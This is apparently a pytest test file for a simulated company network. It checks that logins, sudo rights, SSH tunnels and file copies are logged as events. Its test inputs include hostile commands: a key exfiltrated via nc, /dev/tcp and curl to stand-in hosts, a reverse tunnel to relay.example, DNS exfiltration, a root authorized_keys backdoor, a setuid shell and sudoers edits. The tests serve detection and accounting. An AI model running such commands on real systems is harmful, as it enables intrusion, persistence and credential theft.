"""Getting in, becoming somebody else, and getting further: whose right it was, and which credential opened the door."""

import pytest

from corpenv.company.rights import login_now, sudo_rules
from corpenv.events import ActionDenied, Connected, FileRead, FileWritten, LoggedIn


def last(yard, kind):
    return yard.events(kind)[-1]


def login(yard, name, server="keep-1"):
    return login_now(yard.company, yard.company.world.servers[server], name)


def test_ones_own_account_elsewhere_is_open(yard):
    assert yard.run("ssh keep-1 'whoami; hostname'") == "desk\nkeep-1"
    assert last(yard, LoggedIn) == LoggedIn(
        at=20, actor="desk", server="keep-1", account="desk", origin="yard-1:desk", through="ssh"
    )


def test_somebody_elses_is_closed_without_a_key(yard):
    assert yard.run("ssh ship@keep-1 id").startswith("ship@keep-1: Permission denied (publickey).")
    denied = last(yard, ActionDenied)
    assert (denied.server, denied.action, denied.target) == ("keep-1", "login", "ship")


@pytest.mark.parametrize("line", ["ssh -i ship.key ship@keep-1 whoami", "mkdir -p .ssh; cp ship.key .ssh/id_rsa; ssh ship@keep-1 whoami"])  # fmt: skip  # noqa: E501
def test_who_holds_the_value_of_a_key_gets_in_with_it(yard, line):
    assert yard.run(line) == "ship"
    assert (last(yard, LoggedIn).account, last(yard, LoggedIn).credential) == ("ship", "ship-key")


def test_a_file_with_another_credential_opens_nothing(yard):
    assert "Permission denied" in yard.run("ssh -i code.txt ship@keep-1 whoami")
    assert not yard.events(LoggedIn)


def test_a_password_that_is_piped_in_opens_the_account_it_belongs_to(yard):
    assert yard.run("cut -d' ' -f2 ship.key | su ship -c whoami") == "ship"
    assert (last(yard, LoggedIn).through, last(yard, LoggedIn).credential) == ("su", "ship-key")
    assert "Authentication failure" in yard.run("echo wrong | su ship -c whoami")
    assert last(yard, ActionDenied).target == "ship"


def test_a_key_that_was_put_where_it_opens_a_door_does(yard):
    yard.run("ssh-keygen -q -t ed25519 -N '' -f k")
    assert "Permission denied" in yard.run("ssh -i k root@keep-1 whoami")
    yard.run("cat k.pub | ssh keep-1 'sudo mkdir -p /root/.ssh; sudo tee -a /root/.ssh/authorized_keys'")
    assert yard.run("ssh -i k root@keep-1 whoami") == "root"
    assert last(yard, LoggedIn).credential == ""


def test_two_keys_are_never_the_same(yard):
    yard.run("for k in a b; do ssh-keygen -q -N '' -f $k; done")
    assert yard.text("/home/desk/a") != yard.text("/home/desk/b")
    assert yard.run("stat -c %a a a.pub") == "600\n644"


def test_who_reads_what_carries_a_secret_is_informed(yard):
    assert not yard.events(FileRead)
    yard.run("cat ship.key > /dev/null")
    assert last(yard, FileRead).path == "/home/desk/ship.key"
    assert ("desk", "yard-1:/home/desk/ship.key") in yard.company.machines.read
    assert "yard-1:/home/desk/ship.key" in yard.company.world.carriers["ship-key"]


# services that ask ------------------------------------------------------------------------------------------


def test_a_service_that_needs_a_credential_answers_who_presents_it(yard):
    assert yard.run("curl -s http://localhost:8443/open") == "401 unauthorized"
    assert last(yard, Connected).credential == ""
    value = yard.text("/home/desk/code.txt").split()[1]
    for line in (
        f"curl -s -H 'Authorization: Bearer {value}' http://localhost:8443/open",
        f"curl -s -u desk:{value} http://localhost:8443/open",
        f"curl -s 'http://localhost:8443/open?token={value}'",
        f"curl -s -b token={value} http://localhost:8443/open",
        f"wget -qO- --header 'X-Token: {value}' http://localhost:8443/open",
    ):
        assert yard.run(line) == "two orders", line
        assert last(yard, Connected).credential == "door-code"


# rights on a server -----------------------------------------------------------------------------------------


def test_sudo_is_what_the_files_of_the_system_say(yard):
    assert "is not in the sudoers file" in yard.run("sudo id")
    assert (last(yard, ActionDenied).action, last(yard, ActionDenied).target) == ("root", "root")
    assert yard.run("sudo -u ship id -un", "keep-1") == "ship"


def test_a_rule_for_one_command_lets_that_one_through(yard):
    yard.run("sudo useradd -m hand; echo 'hand ALL=(root) NOPASSWD: /usr/bin/systemctl restart keeper' | sudo tee /etc/sudoers.d/hand", "keep-1")  # fmt: skip  # noqa: E501
    server = yard.company.world.servers["keep-1"]
    assert sudo_rules(yard.company, server, login(yard, "hand")) == ("/usr/bin/systemctl restart keeper",)
    answer = yard.run("sudo -u hand bash -c 'sudo systemctl restart keeper; echo $?; sudo cat /etc/shadow'", "keep-1")
    assert answer.splitlines()[0] == "0"
    assert "hand is not in the sudoers file" in answer


@pytest.mark.parametrize(
    "line",
    ["usermod -aG sudo hand", "gpasswd -a hand sudo", "adduser hand sudo", "sed -i 's/^sudo:.*/&,hand/' /etc/group",
     "bash -c 'echo \"hand ALL=(ALL) ALL\" >> /etc/sudoers'"],
)  # fmt: skip
def test_an_account_that_is_given_more_can_more(yard, line):
    yard.run("sudo useradd -m hand", "keep-1")
    assert "not in the sudoers" in yard.run("sudo -u hand sudo whoami", "keep-1")
    yard.run(f"sudo {line}", "keep-1")
    assert yard.run("sudo -u hand sudo whoami", "keep-1") == "root"


def test_an_account_that_is_taken_out_of_its_group_can_no_more(yard):
    assert yard.run("sudo gpasswd -d desk sudo", "keep-1") == "Removing user desk from group sudo"
    assert not login(yard, "desk").sudo
    assert "not in the sudoers" in yard.run("sudo id", "keep-1")


def test_a_program_that_runs_as_its_owner_is_a_door(yard):
    yard.run("sudo cp /bin/bash /tmp/sh; sudo chmod u+s /tmp/sh", "keep-1")
    assert yard.run("ls -l /tmp/sh | cut -c1-10; stat -c %a /tmp/sh", "keep-1") == "-rwsr-xr-x\n4755"
    assert yard.run("/tmp/sh -p -c whoami; /tmp/sh -c whoami", "keep-1") == "root\ndesk"
    assert (last(yard, LoggedIn).through, last(yard, LoggedIn).account) == ("setuid", "root")


def test_a_new_account_is_in_every_file(yard):
    yard.run("sudo useradd -m -s /bin/bash -G adm hand", "keep-1")
    assert yard.run("getent passwd hand; id hand; ls -ld /home/hand", "keep-1").splitlines()[:2] == [
        "hand:x:1003:1003::/home/hand:/bin/bash",
        "uid=1003(hand) gid=1003(hand) groups=1003(hand),4(adm)",
    ]
    assert "already exists" in yard.run("sudo useradd hand", "keep-1")
    yard.run("sudo userdel hand", "keep-1")
    assert login(yard, "hand") is None


@pytest.mark.parametrize(
    "line", ["usermod -aG sudo desk", "useradd x", "passwd dele", "groupadd x", "visudo", "userdel dele"]
)
def test_who_is_not_root_changes_no_account(yard, line):
    yard.run(line)
    assert last(yard, ActionDenied).action == "root"
    assert yard.text("/etc/passwd") == yard.company.text(yard.company.world.servers["yard-1"].files["/etc/passwd"].text)


# tunnels ----------------------------------------------------------------------------------------------------


def test_a_tunnel_stays_until_it_is_ended(yard):
    assert yard.run("ssh -fN -R 2222:localhost:22 desk@relay.example") == "(no output)"
    assert (last(yard, Connected).forwards, last(yard, Connected).outcome) == ("inbound", "open")
    assert "ssh -fN -R 2222:localhost:22 desk@relay.example" in yard.run("ps aux; ss -tn")
    assert ":22" in yard.run("ss -tn | grep 203.0.113")
    yard.run("pkill ssh")
    assert "relay" not in yard.run("ps aux")


@pytest.mark.parametrize("line", ["ssh -N -R 2222:localhost:22 desk@relay.example &", "nohup ssh -NR 2222:localhost:22 relay.example >/dev/null 2>&1 &"])  # fmt: skip  # noqa: E501
def test_a_tunnel_in_the_background_is_one_too(yard, line):
    yard.run(line)
    assert last(yard, Connected).forwards == "inbound"
    assert "2222:localhost:22" in yard.run("ps aux")


def test_who_is_not_let_in_has_no_tunnel(yard):
    yard.run("sudo iptables -F", "keep-1")
    answer = yard.run("ssh -fN -R 2222:localhost:22 desk@other.example", "keep-1")
    assert "desk@other.example: Permission denied (publickey)." in answer
    assert (last(yard, Connected).outcome, last(yard, Connected).forwards) == ("open", "")
    assert last(yard, ActionDenied).target == "desk@other.example"


def test_what_is_led_through_a_tunnel_comes_out_elsewhere(yard):
    assert yard.run("curl -s http://localhost:8088/health; echo $?") == "7"
    yard.run("ssh -fN -L 8088:localhost:8080 keep-1")
    assert last(yard, Connected).forwards == "outbound"
    assert yard.run("curl -s http://localhost:8088/health") == "ok"


def test_a_proxy_through_another_server_goes_by_its_egress(yard):
    assert yard.run("curl -s https://www.example/; echo $?") == "28"
    yard.run("ssh -fN -D 1080 keep-1")
    assert yard.run("curl -sx socks5h://localhost:1080 https://www.example/ -o /dev/null; echo $?") == "0"
    assert (last(yard, Connected).host, last(yard, Connected).outcome) == ("www.example", "open")


def test_what_is_piped_into_a_connection_has_been_sent(yard):
    yard.run("cat ship.key | nc keep-1 514; nc keep-1 514 < ship.key; cat ship.key | ssh keep-1 'cat > k'")
    value = yard.text("/home/desk/ship.key")
    sent = [event for event in yard.events(Connected) if value.strip() in event.sent]
    assert [event.protocol for event in sent] == ["tcp", "tcp", "ssh"]
    assert {event.credential for event in sent} == {"ship-key"}


@pytest.mark.parametrize("line", ["cat ship.key > /dev/tcp/keep-1/514", "bash -c 'cat ship.key >/dev/tcp/keep-1/514'"])
def test_what_is_written_into_a_connection_has_been_sent(yard, line):
    yard.run(line)
    event = last(yard, Connected)
    assert (event.host, event.port, event.outcome, event.credential) == ("keep-1", 514, "open", "ship-key")


def test_a_question_for_a_name_outside_leaves_the_company(yard):
    yard.run("host c2hpcA.relay.example; dig +short keep-1; nslookup keep-1.tallowlane.example")
    (asked,) = [event for event in yard.events(Connected) if event.protocol == "dns"]
    assert (asked.host, asked.port, asked.inside) == ("c2hpcA.relay.example", 53, False)


def test_what_would_have_been_sent_is_known_where_nobody_answered(yard):
    yard.run("curl -s -T ship.key https://drop.example/x")
    event = last(yard, Connected)
    assert (event.outcome, event.paths) == ("timed_out", ("/home/desk/ship.key",))
    assert "kf-" in event.sent


# copies -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    ["scp ship.key keep-1:", "scp ship.key desk@keep-1:/tmp/ship.key", "rsync -a ship.key keep-1:copy/ship.key",
     "scp -r ../desk keep-1:all"],
)  # fmt: skip
def test_a_copy_elsewhere_says_where_it_came_from(yard, line):
    yard.run(line)
    made = [event for event in yard.events(FileWritten) if event.copied_from == "yard-1:/home/desk/ship.key"]
    assert [event.server for event in made] == ["keep-1"]
    assert "/home/desk/ship.key" in last(yard, Connected).paths


def test_a_copy_comes_from_elsewhere(yard):
    yard.run("echo seen > s.txt", "keep-1")
    assert yard.run("scp keep-1:s.txt got.txt; cat got.txt; rsync -a keep-1:s.txt .; cat s.txt") == "seen\nseen"
    assert "No such file" in yard.run("scp keep-1:nothing .")


def test_what_may_not_be_read_or_written_is_not_copied(yard):
    assert 'open local "/etc/shadow": Permission denied' in yard.run("scp /etc/shadow keep-1:")
    assert 'dest open "/etc/x": Permission denied' in yard.run("scp ship.key keep-1:/etc/x")
    assert [(event.server, event.action) for event in yard.events(ActionDenied)] == [
        ("yard-1", "read"),
        ("keep-1", "write"),
    ]
